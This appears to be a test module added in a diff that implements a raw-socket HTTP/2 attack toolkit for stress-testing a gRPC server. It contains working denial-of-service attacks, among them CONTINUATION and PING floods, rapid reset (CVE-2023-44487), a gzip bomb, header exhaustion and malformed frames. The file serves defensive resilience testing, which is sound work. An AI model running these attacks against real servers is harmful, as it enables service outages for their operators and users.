@@ -1,0 +1,760 @@
+"""A raw-HTTP/2 attacker's toolkit against a gRPC server (tests/e2e/test_http2_attacks.py).
+
+Plain sockets and frames built by hand: what a hostile or broken peer sends, which no HTTP/2
+client library lets one send. Each attack runs within a `Budget` (bytes, seconds) on
+non-blocking sockets, so a server that stops reading (flow control, backpressure) ends the
+attack at its deadline instead of hanging it. It returns an `Attack` holding its connections
+open until `close()`: memory a server holds only while the peer stays connected is the
+point, so the caller measures before it closes.
+
+Everything here is written from RFC 9113 (HTTP/2) and RFC 7541 (HPACK), not from the
+server under test, so that its bugs are not copied into its attacker.
+"""
+
+from __future__ import annotations
+
+import functools
+import resource
+import select
+import socket
+import struct
+import time
+import urllib.parse
+import zlib
+from collections import Counter
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+import hpack
+
+from lighthouse.rpc.proto import torchft_pb2 as pb
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE = range(9)
+CONTINUATION = 9
+END_STREAM = ACK = 0x1
+END_HEADERS = 0x4
+PADDED = 0x8
+PRIORITY_FLAG = 0x20
+ENABLE_PUSH, INITIAL_WINDOW_SIZE, MAX_FRAME_SIZE = 0x2, 0x4, 0x5
+CANCEL = 0x8
+DEFAULT_WINDOW = 65_535
+DEFAULT_FRAME = 16_384
+MAX_WINDOW = 2**31 - 1
+MB = 1 << 20
+SERVICE = "/torchft.LighthouseService/"
+SMALL_RCVBUF = 4096
+"""SO_RCVBUF of a peer that never reads: the server's answers back up after a few KB."""
+
+_HEADER = struct.Struct(">BHBBI")
+_SETTING = struct.Struct(">HI")
+_U32 = struct.Struct(">I")
+
+
+# ---- frames, HPACK, gRPC messages -------------------------------------------------------
+
+
+def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
+    """A frame: its 9-byte header (24-bit length, type, flags, 31-bit stream id), then payload."""
+    n = len(payload)
+    return _HEADER.pack(n >> 16, n & 0xFFFF, kind, flags, stream_id) + payload
+
+
+def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
+    """An HPACK integer (RFC 7541 5.1), `first` holding the first byte's high bits."""
+    limit = (1 << prefix_bits) - 1
+    if value < limit:
+        return bytes([first | value])
+    out = bytearray([first | limit])
+    value -= limit
+    while value >= 128:
+        out.append(value & 0x7F | 0x80)
+        value >>= 7
+    out.append(value)
+    return bytes(out)
+
+
+def literal(name: str | bytes, value: str | bytes) -> bytes:
+    """A header field as a literal without indexing and without Huffman (RFC 7541 6.2.2): it
+    costs the server exactly its size, whatever the server's table holds."""
+    raw_name = name.encode() if isinstance(name, str) else name
+    raw_value = value.encode() if isinstance(value, str) else value
+    return (
+        b"\x00" + hpack_int(len(raw_name), 7) + raw_name + hpack_int(len(raw_value), 7) + raw_value
+    )
+
+
+def literals(headers: list[tuple[str, str]]) -> bytes:
+    return b"".join(literal(name, value) for name, value in headers)
+
+
+def method(name: str) -> str:
+    return SERVICE + name
+
+
+def request_headers(authority: str, path: str, *extra: tuple[str, str]) -> list[tuple[str, str]]:
+    """A gRPC call's request headers, as grpcio's client sends them."""
+    return [
+        (":method", "POST"),
+        (":scheme", "http"),
+        (":path", path),
+        (":authority", authority),
+        ("content-type", "application/grpc"),
+        ("te", "trailers"),
+        *extra,
+    ]
+
+
+def grpc_message(message: bytes, compressed: bool = False, declared: int | None = None) -> bytes:
+    """A length-prefixed gRPC message; `declared` overrides the length it claims."""
+    return bytes([compressed]) + _U32.pack(len(message) if declared is None else declared) + message
+
+
+def heartbeat_message(replica_id: str) -> bytes:
+    return grpc_message(pb.LighthouseHeartbeatRequest(replica_id=replica_id).SerializeToString())
+
+
+BOMB_BYTES = 1 << 30
+
+
+@functools.cache
+def gzip_bomb() -> bytes:
+    """A gzip member (about 1 MB) of BOMB_BYTES zeros. Each 16 MB of zeros deflates, after a
+    full flush, to the same bytes, so one chunk is compressed and repeated: a third of a
+    second instead of the seconds that compressing a gigabyte takes."""
+    chunk, count = 1 << 24, BOMB_BYTES >> 24
+    zeros = bytes(chunk)
+    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
+    first = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)  # with the gzip header
+    again = deflate.compress(zeros) + deflate.flush(zlib.Z_FULL_FLUSH)
+    last_block = deflate.flush()[:-8]  # the final empty block; its trailer is for 32 MB
+    crc = 0
+    for _ in range(count):
+        crc = zlib.crc32(zeros, crc)
+    return first + again * (count - 1) + last_block + struct.pack("<II", crc, BOMB_BYTES % 2**32)
+
+
+def raise_nofile(wanted: int) -> None:
+    """Raises this process's soft limit on open files (up to the hard limit): one socket a
+    connection. Children started afterwards inherit it."""
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    if soft != resource.RLIM_INFINITY and soft < wanted:
+        new = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
+        resource.setrlimit(resource.RLIMIT_NOFILE, (new, hard))
+
+
+# ---- one attacking connection -----------------------------------------------------------
+
+
+class Budget:
+    """What one attack may spend: bytes sent (all its connections together) and seconds."""
+
+    def __init__(self, max_bytes: int, max_seconds: float) -> None:
+        self.max_bytes = max_bytes
+        self.deadline = time.monotonic() + max_seconds
+        self.sent = 0
+
+    def left_s(self) -> float:
+        return max(0.0, self.deadline - time.monotonic())
+
+    def spent(self) -> bool:
+        return self.sent >= self.max_bytes or time.monotonic() >= self.deadline
+
+
+class Peer:
+    """One attacking connection, started with the connection preface and a SETTINGS frame.
+
+    It follows what the server says (its settings, the flow-control windows it grants, GOAWAY,
+    RST_STREAM, the headers it answers with) only when `pump` reads: attacks whose answers are
+    never read never call it, and then the server's writes back up in its own memory."""
+
+    def __init__(
+        self,
+        addr: str,
+        budget: Budget,
+        rcvbuf: int | None = None,
+        settings: tuple[tuple[int, int], ...] = (),
+        handshake: bool = True,
+    ) -> None:
+        url = urllib.parse.urlsplit(addr if "://" in addr else f"http://{addr}")
+        host, port = url.hostname or "127.0.0.1", url.port or 80
+        self.authority = f"{host}:{port}"
+        family, _, _, _, sockaddr = socket.getaddrinfo(host, port, type=socket.SOCK_STREAM)[0]
+        self.sock = socket.socket(family, socket.SOCK_STREAM)
+        try:
+            if rcvbuf:  # before connect: the TCP window offered is sized from it then
+                self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
+            self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+            self.sock.settimeout(max(budget.left_s(), 1.0))
+            self.sock.connect(sockaddr)
+        except OSError:
+            self.sock.close()
+            raise
+        self.sock.setblocking(False)
+        self.budget = budget
+        self.encoder = hpack.Encoder()
+        self.decoder = hpack.Decoder()
+        self.decoder.max_header_list_size = 1 << 30
+        self.settings: dict[int, int] = {}
+        """The server's SETTINGS, as last received."""
+        self.settings_seen = False
+        self.send_window = DEFAULT_WINDOW
+        """What the server lets us send on the connection (negative: more than it granted)."""
+        self.stream_windows: dict[int, int] = {}
+        self.goaway: int | None = None
+        """The error code of the server's GOAWAY, if one came."""
+        self.closed = ""
+        """Why the connection ended ("" while open)."""
+        self.answers: dict[int, list[tuple[str, str]]] = {}
+        self.ended: set[int] = set()
+        self.resets: dict[int, int] = {}
+        self.pings_acked: list[bytes] = []
+        self.next_stream = 1
+        self._in = bytearray()
+        self._block = bytearray()
+        payload = b"".join(_SETTING.pack(key, value) for key, value in settings)
+        self.send(PREFACE + frame(SETTINGS, 0, 0, payload), budgeted=False)
+        if handshake:
+            self.handshake()
+
+    @property
+    def max_frame(self) -> int:
+        return self.settings.get(MAX_FRAME_SIZE, DEFAULT_FRAME)
+
+    def stream_window(self, stream_id: int) -> int:
+        initial = self.settings.get(INITIAL_WINDOW_SIZE, DEFAULT_WINDOW)
+        return self.stream_windows.setdefault(stream_id, initial)
+
+    def send(self, data: bytes, budgeted: bool = True) -> bool:
+        """Sends all of `data`; False when the budget runs out first (the attack spent its
+        bytes, or its time while the server was not reading) or the connection ended."""
+        view = memoryview(data)
+        deadline = self.budget.deadline if budgeted else time.monotonic() + 1.0
+        while view:
+            if self.closed or (budgeted and self.budget.sent >= self.budget.max_bytes):
+                return False
+            try:
+                n = self.sock.send(view)
+            except BlockingIOError:
+                left = deadline - time.monotonic()
+                if left <= 0:
+                    return False
+                select.select([], [self.sock], [], min(left, 0.05))
+                continue
+            except OSError as e:
+                self.closed = f"{type(e).__name__} while sending"
+                return False
+            view = view[n:]
+            self.budget.sent += n
+        return True
+
+    def open(self, headers: list[tuple[str, str]], end_stream: bool = False) -> int:
+        """Starts a stream with these headers (HPACK-encoded with indexing); its id."""
+        stream_id, self.next_stream = self.next_stream, self.next_stream + 2
+        flags = END_HEADERS | (END_STREAM if end_stream else 0)
+        self.send(frame(HEADERS, flags, stream_id, self.encoder.encode(headers)))
+        return stream_id
+
+    def send_data(
+        self, stream_id: int, data: bytes, end_stream: bool = False, wait: bool = True
+    ) -> int:
+        """Sends `data` as DATA frames as the server's windows allow, reading its
+        WINDOW_UPDATEs while they are shut (wait=False: only what fits now); bytes sent."""
+        view, sent = memoryview(data), 0
+        while view:
+            room = min(len(view), self.send_window, self.stream_window(stream_id), self.max_frame)
+            if room <= 0:
+                if not wait or self.budget.spent() or not self.pump(0.05):
+                    break
+                continue
+            flags = END_STREAM if end_stream and room == len(view) else 0
+            if not self.send(frame(DATA, flags, stream_id, bytes(view[:room]))):
+                break
+            self.send_window -= room
+            self.stream_windows[stream_id] -= room
+            view, sent = view[room:], sent + room
+        return sent
+
+    def pump(self, wait: float = 0.0) -> bool:
+        """Reads and handles what the server sent, waiting up to `wait` s for it to send
+        something; False once the connection has ended."""
+        if self.closed:
+            return False
+        readable = select.select([self.sock], [], [], wait)[0]
+        while readable and not self.closed:
+            try:
+                chunk = self.sock.recv(1 << 20)
+            except BlockingIOError:
+                break
+            except OSError as e:
+                self.closed = f"{type(e).__name__} while reading"
+                break
+            if not chunk:
+                self.closed = "closed by the server"
+                break
+            self._in += chunk
+        self._frames()
+        return not self.closed
+
+    def drain(self) -> None:
+        """Reads and drops what the server sent, unparsed (its answers cost us nothing)."""
+        try:
+            while self.sock.recv(1 << 20):
+                pass
+        except OSError:
+            pass
+
+    def handshake(self, timeout: float = 2.0) -> None:
+        """Waits for the server's SETTINGS (acknowledged by `pump`), and the window update
+        a server may send right after it."""
+        deadline = time.monotonic() + timeout
+        while not self.settings_seen and self.pump(max(0.0, deadline - time.monotonic())):
+            if time.monotonic() >= deadline:
+                break
+        self.pump(0.02)
+
+    def probe(self, timeout: float) -> str:
+        """Sends a PING and reads until its ACK, a GOAWAY or the end of the connection: has
+        the server taken what came before it? "ack", "goaway <code>", "closed" or "timeout"."""
+        opaque = b"probe\x00" + _U32.pack(len(self.pings_acked))[2:]
+        self.send(frame(PING, 0, 0, opaque), budgeted=False)
+        deadline = time.monotonic() + timeout
+        while self.goaway is None and opaque not in self.pings_acked:
+            if not self.pump(min(0.05, max(0.0, deadline - time.monotonic()))):
+                break
+            if time.monotonic() >= deadline:
+                return "timeout"
+        if self.goaway is not None:
+            return f"goaway {self.goaway}"
+        return "ack" if opaque in self.pings_acked else "closed"
+
+    def wait_ended(self, stream_id: int) -> None:
+        """Reads until the server ends the stream, or the budget's deadline."""
+        while stream_id not in self.ended and stream_id not in self.resets:
+            if self.budget.left_s() <= 0 or not self.pump(min(0.05, self.budget.left_s())):
+                return
+
+    def state(self) -> str:
+        """The connection's end, for an attack's notes."""
+        if self.goaway is not None:
+            return f"GOAWAY (error code {self.goaway})"
+        return self.closed or "open"
+
+    def close(self) -> None:
+        self.sock.close()
+
+    def _frames(self) -> None:
+        buf, pos = self._in, 0
+        while len(buf) - pos >= 9:
+            hi, lo, kind, flags, stream_id = _HEADER.unpack_from(buf, pos)
+            end = pos + 9 + (hi << 16 | lo)
+            if end > len(buf):
+                break
+            self._frame(kind, flags, stream_id & MAX_WINDOW, bytes(buf[pos + 9 : end]))
+            pos = end
+        del buf[:pos]
+
+    def _frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
+        if kind == SETTINGS and not flags & ACK:
+            for pos in range(0, len(payload) - 5, 6):
+                key, value = _SETTING.unpack_from(payload, pos)
+                if key == INITIAL_WINDOW_SIZE:  # RFC 9113 6.9.2: open streams shift with it
+                    delta = value - self.settings.get(key, DEFAULT_WINDOW)
+                    for open_id in self.stream_windows:
+                        self.stream_windows[open_id] += delta
+                self.settings[key] = value
+            self.settings_seen = True
+            self.send(frame(SETTINGS, ACK, 0), budgeted=False)
+        elif kind == WINDOW_UPDATE and len(payload) == 4:
+            increment = _U32.unpack(payload)[0] & MAX_WINDOW
+            if stream_id:
+                self.stream_windows[stream_id] = self.stream_window(stream_id) + increment
+            else:
+                self.send_window += increment
+        elif kind == PING:
+            if flags & ACK:
+                self.pings_acked.append(payload)
+            else:
+                self.send(frame(PING, ACK, 0, payload), budgeted=False)
+        elif kind == GOAWAY and len(payload) >= 8:
+            self.goaway = _U32.unpack_from(payload, 4)[0]
+        elif kind == RST_STREAM and len(payload) == 4:
+            self.resets[stream_id] = _U32.unpack(payload)[0]
+        elif kind == DATA and flags & END_STREAM:
+            self.ended.add(stream_id)
+        elif kind in (HEADERS, CONTINUATION):
+            if kind == HEADERS:
+                start, stop = 0, len(payload)
+                if flags & PADDED:
+                    start, stop = 1, stop - payload[0]
+                if flags & PRIORITY_FLAG:
+                    start += 5
+                self._block[:] = payload[start:stop]
+                if flags & END_STREAM:
+                    self.ended.add(stream_id)
+            else:
+                self._block += payload
+            if flags & END_HEADERS:
+                block = self.decoder.decode(bytes(self._block), raw=False)
+                self.answers.setdefault(stream_id, []).extend(block)
+
+
+# ---- attacks ------------------------------------------------------------------------------
+
+
+@dataclass
+class Attack:
+    """What an attack did. It holds its connections open until `close()`."""
+
+    budget: Budget
+    peers: list[Peer] = field(default_factory=list)
+    notes: str = ""
+    failures: list[str] = field(default_factory=list)
+    """Protocol rules the server broke, as the attack itself saw (the caller fails on them)."""
+
+    @property
+    def bytes_sent(self) -> int:
+        return self.budget.sent
+
+    def close(self) -> None:
+        for peer in self.peers:
+            peer.close()
+
+
+def _flood(peer: Peer, budget: Budget, one: bytes, what: str) -> Attack:
+    """Sends `one` frame again and again, in batches, until the budget is spent."""
+    batch = one * 4096
+    start = budget.sent
+    while not budget.spent() and peer.send(batch):
+        pass
+    count = (budget.sent - start) // len(one)
+    return Attack(budget, [peer], f"{count} {what} frames, answers never read; {peer.state()}")
+
+
+def continuation_flood(addr: str, budget: Budget) -> Attack:
+    """(a) A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION
+    frames of valid literal fields for as long as the budget lasts. A server that buffers a
+    block until its end holds all of it."""
+    peer = Peer(addr, budget)
+    block = literals(request_headers(peer.authority, method("Quorum")))
+    filler = literal("x-filler", "a" * (DEFAULT_FRAME - 16))
+    peer.send(frame(HEADERS, 0, 1, block))
+    batch = frame(CONTINUATION, 0, 1, filler) * 64
+    frames = 0
+    while not budget.spent() and peer.send(batch):
+        frames += 64
+    mb = frames * len(filler) / MB
+    return Attack(budget, [peer], f"{frames} CONTINUATION frames ({mb:.0f} MB); {peer.state()}")
+
+
+def unfinished_messages(addr: str, budget: Budget, streams: int = 100) -> Attack:
+    """(b) `streams` Quorum calls, each declaring a 4 MB message (grpcio's default limit)
+    and sending as much of it as flow control allows, never the last byte."""
+    peer = Peer(addr, budget)
+    declared = 4 * MB
+    ids = [peer.open(request_headers(peer.authority, method("Quorum"))) for _ in range(streams)]
+    left = {}
+    for stream_id in ids:
+        peer.send_data(stream_id, grpc_message(b"", declared=declared))
+        left[stream_id] = declared - 1
+    zeros = bytes(min(peer.max_frame, MB))
+    while not budget.spent() and not peer.closed:
+        moved = 0
+        for stream_id in ids:
+            if left[stream_id]:
+                n = peer.send_data(stream_id, zeros[: left[stream_id]], wait=False)
+                left[stream_id] -= n
+                moved += n
+        if not peer.pump(0.0 if moved else 0.05):
+            break
+    sent = sum(declared - 1 - n for n in left.values()) / MB
+    notes = f"{streams} streams, {sent:.0f} MB of their 4 MB messages sent; {peer.state()}"
+    return Attack(budget, [peer], notes)
+
+
+def ping_flood(addr: str, budget: Budget) -> Attack:
+    """(c) PINGs as fast as the server takes them; its ACKs are never read."""
+    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
+    return _flood(peer, budget, frame(PING, 0, 0, bytes(8)), "PING")
+
+
+def settings_flood(addr: str, budget: Budget) -> Attack:
+    """(d) Empty SETTINGS frames, each owed an ACK of its own size, ACKs never read."""
+    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
+    return _flood(peer, budget, frame(SETTINGS, 0, 0), "SETTINGS")
+
+
+def rapid_reset(addr: str, budget: Budget, streams: int = 500_000) -> Attack:
+    """(e) HEADERS of a Quorum call then RST_STREAM at once, stream after stream
+    (CVE-2023-44487): no stream stays open, yet each may start work or leave state."""
+    peer = Peer(addr, budget)
+    headers = request_headers(peer.authority, method("Quorum"))
+    blocks = [peer.encoder.encode(headers), peer.encoder.encode(headers)]  # then all indexed
+    cancel = _U32.pack(CANCEL)
+    stream_id, opened = 1, 0
+    while opened < streams and not budget.spent():
+        batch = []
+        for _ in range(min(2048, streams - opened)):
+            block = blocks[min(stream_id // 2, 1)]
+            batch += (
+                frame(HEADERS, END_HEADERS, stream_id, block),
+                frame(RST_STREAM, 0, stream_id, cancel),
+            )
+            stream_id += 2
+        if not peer.send(b"".join(batch)):
+            break
+        opened = stream_id // 2
+    return Attack(budget, [peer], f"{opened} streams opened and reset; {peer.state()}")
+
+
+def idle_connections(addr: str, budget: Budget, count: int = 2000) -> Attack:
+    """(f) `count` connections that send the client preface (magic and SETTINGS) and
+    nothing more, all held open."""
+    raise_nofile(count + 256)
+    attack = Attack(budget)
+    why = ""
+    while len(attack.peers) < count and not budget.spent():
+        try:
+            attack.peers.append(Peer(addr, budget, handshake=False))
+        except OSError as e:
+            why = f"; then connect failed: {e}"
+            break
+    attack.notes = f"{len(attack.peers)} idle connections{why}"
+    return attack
+
+
+def path_echo(addr: str, budget: Budget, path_bytes: int = 8000) -> Attack:
+    """(g) Calls to an unknown method whose :path is `path_bytes` long, answers never read:
+    a server that echoes the path in its error (percent-encoded, so '%' triples it) writes
+    more than it reads."""
+    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF)
+    path = SERVICE + "%" * (path_bytes - len(SERVICE))
+    block = literals(request_headers(peer.authority, path))
+    stream_id = 1
+    while not budget.spent():
+        batch = []
+        for _ in range(32):
+            batch.append(frame(HEADERS, END_HEADERS | END_STREAM, stream_id, block))
+            stream_id += 2
+        if not peer.send(b"".join(batch)):
+            break
+    calls = stream_id // 2
+    return Attack(
+        budget, [peer], f"up to {calls} calls of an {path_bytes}-byte path; {peer.state()}"
+    )
+
+
+def huge_header(addr: str, budget: Budget, size: int = 16 * MB) -> Attack:
+    """(h) A Heartbeat call with one literal header value of `size` bytes, spread over
+    CONTINUATION frames (grpcio refuses a header list over 16 KB)."""
+    peer = Peer(addr, budget)
+    block = literals(request_headers(peer.authority, method("Heartbeat")))
+    block += literal("x-huge", b"a" * size)
+    frames = [
+        frame(
+            CONTINUATION if pos else HEADERS,
+            END_HEADERS if pos + DEFAULT_FRAME >= len(block) else 0,
+            1,
+            block[pos : pos + DEFAULT_FRAME],
+        )
+        for pos in range(0, len(block), DEFAULT_FRAME)
+    ]
+    for pos in range(0, len(frames), 64):
+        if not peer.send(b"".join(frames[pos : pos + 64])):
+            break
+    return Attack(budget, [peer], f"a {size // MB} MB header value; {peer.state()}")
+
+
+def gzip_bomb_call(addr: str, budget: Budget) -> Attack:
+    """(i) A Heartbeat call with grpc-encoding: gzip whose message, about 1 MB on the wire
+    (under the 4 MB limit), inflates to 1 GB of zeros."""
+    bomb = gzip_bomb()
+    peer = Peer(addr, budget)
+    headers = request_headers(peer.authority, method("Heartbeat"), ("grpc-encoding", "gzip"))
+    stream_id = peer.open(headers)
+    peer.send_data(stream_id, grpc_message(bomb, compressed=True), end_stream=True)
+    peer.wait_ended(stream_id)
+    answer = dict(peer.answers.get(stream_id, []))
+    status = answer.get("grpc-status", "none yet")
+    notes = (
+        f"{len(bomb) / MB:.1f} MB of gzip inflating to {BOMB_BYTES // MB} MB; "
+        f"grpc-status {status} {answer.get('grpc-message', '')[:80]!r}; {peer.state()}"
+    )
+    return Attack(budget, [peer], notes)
+
+
+def flow_control_abuse(addr: str, budget: Budget) -> Attack:
+    """(j) Flow-control violations, each on its own connection, each a connection error
+    (RFC 9113 6.9, 6.9.1): WINDOW_UPDATE of 0 on the connection; one that takes the
+    server's window past 2^31-1; DATA beyond the window the server granted. The last is a
+    violation only if the server never granted that much, as one that refreshes its window
+    as data arrives does: then it is not one."""
+    attack = Attack(budget)
+    for what, update in (
+        ("a WINDOW_UPDATE of 0 on the connection", 0),
+        ("a WINDOW_UPDATE taking the window past 2^31-1", MAX_WINDOW),
+    ):
+        peer = Peer(addr, budget)
+        attack.peers.append(peer)
+        peer.send(frame(WINDOW_UPDATE, 0, 0, _U32.pack(update)))
+        outcome = peer.probe(timeout=max(1.0, budget.left_s() / 3))
+        attack.notes += f"{what}: {outcome}; "
+        if outcome in ("ack", "timeout"):
+            attack.failures.append(f"{what} was taken ({outcome}), not a connection error")
+    peer = Peer(addr, budget)
+    attack.peers.append(peer)
+    stream_id = peer.open(request_headers(peer.authority, method("Quorum")))
+    allowed = min(peer.send_window, peer.stream_window(stream_id))
+    total = allowed + MB
+    data = grpc_message(b"", declared=4 * MB) + bytes(total - 5)
+    step = peer.max_frame
+    peer.send(
+        b"".join(frame(DATA, 0, stream_id, data[p : p + step]) for p in range(0, total, step))
+    )
+    peer.send_window -= total
+    outcome = peer.probe(timeout=max(1.0, budget.left_s()))
+    attack.notes += (
+        f"DATA {total - allowed} bytes beyond the {allowed} granted: {outcome}, "
+        f"window after the server's updates {peer.send_window}"
+    )
+    if outcome in ("ack", "timeout") and peer.send_window < 0:
+        attack.failures.append(
+            f"DATA {-peer.send_window} bytes beyond the window the server granted was taken"
+        )
+    return attack
+
+
+def unread_answers(addr: str, budget: Budget) -> Attack:
+    """(k) Unary Heartbeat calls on one connection whose SETTINGS_INITIAL_WINDOW_SIZE is 0,
+    answers never read: every answer's message waits on flow control at the server. Sent
+    within the connection window the server granted at the start (no later WINDOW_UPDATE is
+    read), so this peer breaks no rule."""
+    peer = Peer(addr, budget, rcvbuf=SMALL_RCVBUF, settings=((INITIAL_WINDOW_SIZE, 0),))
+    headers = request_headers(peer.authority, method("Heartbeat"))
+    blocks = [peer.encoder.encode(headers), peer.encoder.encode(headers)]
+    body = heartbeat_message("attacker-unread")
+    calls = 0
+    while not budget.spent():
+        batch = []
+        while len(batch) < 512 and peer.send_window >= len(body):
+            stream_id = peer.next_stream
+            peer.next_stream += 2
+            peer.send_window -= len(body)
+            batch += (
+                frame(HEADERS, END_HEADERS, stream_id, blocks[min(calls + len(batch), 1)]),
+                frame(DATA, END_STREAM, stream_id, body),
+            )
+        if not batch or not peer.send(b"".join(batch)):
+            break
+        calls += len(batch) // 2
+    why = "the connection window spent" if peer.send_window < len(body) else "the budget spent"
+    return Attack(budget, [peer], f"{calls} calls, {why}; {peer.state()}")
+
+
+def _malformed(authority: str) -> dict[str, bytes]:
+    """Frames that break RFC 9113 in ways a parser trips on (an index out of range): each
+    is sent on a connection of its own."""
+    ok = literals(request_headers(authority, method("Heartbeat")))
+    return {
+        "PADDED HEADERS, empty payload": frame(HEADERS, PADDED | END_HEADERS, 1, b""),
+        "empty header name": frame(HEADERS, END_HEADERS | END_STREAM, 1, ok + literal("", "x")),
+        "HEADERS padding longer than the frame": frame(
+            HEADERS, PADDED | END_HEADERS | END_STREAM, 1, bytes([255]) + ok[:32]
+        ),
+        "DATA padding longer than the frame": frame(HEADERS, END_HEADERS, 1, ok)
+        + frame(DATA, PADDED, 1, bytes([200]) + bytes(10)),
+        "HEADERS with PRIORITY, 2 bytes": frame(HEADERS, PRIORITY_FLAG | END_HEADERS, 1, bytes(2)),
+        "PRIORITY of 3 bytes": frame(PRIORITY, 0, 1, bytes(3)),
+        "SETTINGS on stream 1": frame(SETTINGS, 0, 1, b""),
+        "PING on stream 1": frame(PING, 0, 1, bytes(8)),
+        "PING of 7 bytes": frame(PING, 0, 0, bytes(7)),
+    }
+
+
+def malformed_frames(addr: str, budget: Budget, rounds: int = 200) -> Attack:
+    """(l) Each malformed frame on a connection of its own, then a PING to learn that the
+    server has handled it; `rounds` times over. The caller checks the server's log: no
+    traceback, and no line per connection."""
+    outcomes: dict[str, Counter[str]] = {}
+    frames = _malformed("lighthouse")
+    done = 0
+    while done < rounds and not budget.spent():
+        for name, bad in frames.items():
+            peer = Peer(addr, budget, handshake=False)
+            try:
+                peer.send(bad)
+                outcomes.setdefault(name, Counter())[peer.probe(timeout=1.0)] += 1
+            finally:
+                peer.close()
+        done += 1
+    seen = "; ".join(f"{name}: {dict(count)}" for name, count in outcomes.items())
+    return Attack(budget, [], f"{done} rounds: {seen}")
+
+
+def work_budget(addr: str, budget: Budget, per_read: int = 256 * 1024) -> Attack:
+    """(m) Batches of one server read's worth of tiny HEADERS frames (about 15 bytes each),
+    each a whole call to an unknown method or to Heartbeat: how long does a server's event
+    loop go without serving anyone else? Answers are read (and dropped): this is about
+    time, not memory."""
+    peer = Peer(addr, budget)
+    lists = [
+        request_headers(peer.authority, method("NoSuchMethod")),
+        request_headers(peer.authority, method("Heartbeat")),
+    ]
+    first = [peer.encoder.encode(headers) for headers in lists]
+    again = [peer.encoder.encode(headers) for headers in lists]  # all indexed from now on
+    stream_id = 1
+    while not budget.spent():
+        batch, size = [], 0
+        while size < per_read:
+            blocks = first if stream_id < 4 else again
+            one = frame(HEADERS, END_HEADERS | END_STREAM, stream_id, blocks[stream_id // 2 % 2])
+            batch.append(one)
+            size += len(one)
+            stream_id += 2
+        if not peer.send(b"".join(batch)):
+            break
+        peer.drain()
+    return Attack(budget, [peer], f"up to {stream_id // 2} calls in {per_read // 1024} KB batches")
+
+
+def stream_flood(addr: str, budget: Budget) -> Attack:
+    """(n) One HeartbeatStream call whose client sends heartbeats as fast as flow control
+    lets it and never reads an answer (its stream window for them is 0)."""
+    peer = Peer(addr, budget, settings=((INITIAL_WINDOW_SIZE, 0),))
+    stream_id = peer.open(request_headers(peer.authority, method("HeartbeatStream")))
+    message = heartbeat_message("attacker-stream")
+    chunk = message * max(1, min(peer.max_frame, MB) // len(message))
+    messages = 0
+    while not budget.spent():
+        sent = peer.send_data(stream_id, chunk)
+        messages += sent // len(message)
+        if sent < len(chunk):
+            break
+    return Attack(budget, [peer], f"{messages} heartbeats on one stream; {peer.state()}")
+
+
+@dataclass(frozen=True)
+class Spec:
+    run: Callable[[str, Budget], Attack]
+    max_bytes: int
+    prepare: Callable[[], object] | None = None
+    """Work done before the budget starts (building a payload)."""
+
+
+ATTACKS: dict[str, Spec] = {
+    "continuation_flood": Spec(continuation_flood, 100 * MB),
+    "unfinished_messages": Spec(unfinished_messages, 192 * MB),
+    "ping_flood": Spec(ping_flood, 64 * MB),
+    "settings_flood": Spec(settings_flood, 64 * MB),
+    "rapid_reset": Spec(rapid_reset, 32 * MB),
+    "idle_connections": Spec(idle_connections, 4 * MB),
+    "path_echo": Spec(path_echo, 32 * MB),
+    "huge_header": Spec(huge_header, 17 * MB),
+    "gzip_bomb": Spec(gzip_bomb_call, 2 * MB, prepare=gzip_bomb),
+    "flow_control_abuse": Spec(flow_control_abuse, 8 * MB),
+    "unread_answers": Spec(unread_answers, 32 * MB),
+    "malformed_frames": Spec(malformed_frames, 8 * MB),
+    "work_budget": Spec(work_budget, 64 * MB),
+    "stream_flood": Spec(stream_flood, 256 * MB),
+}
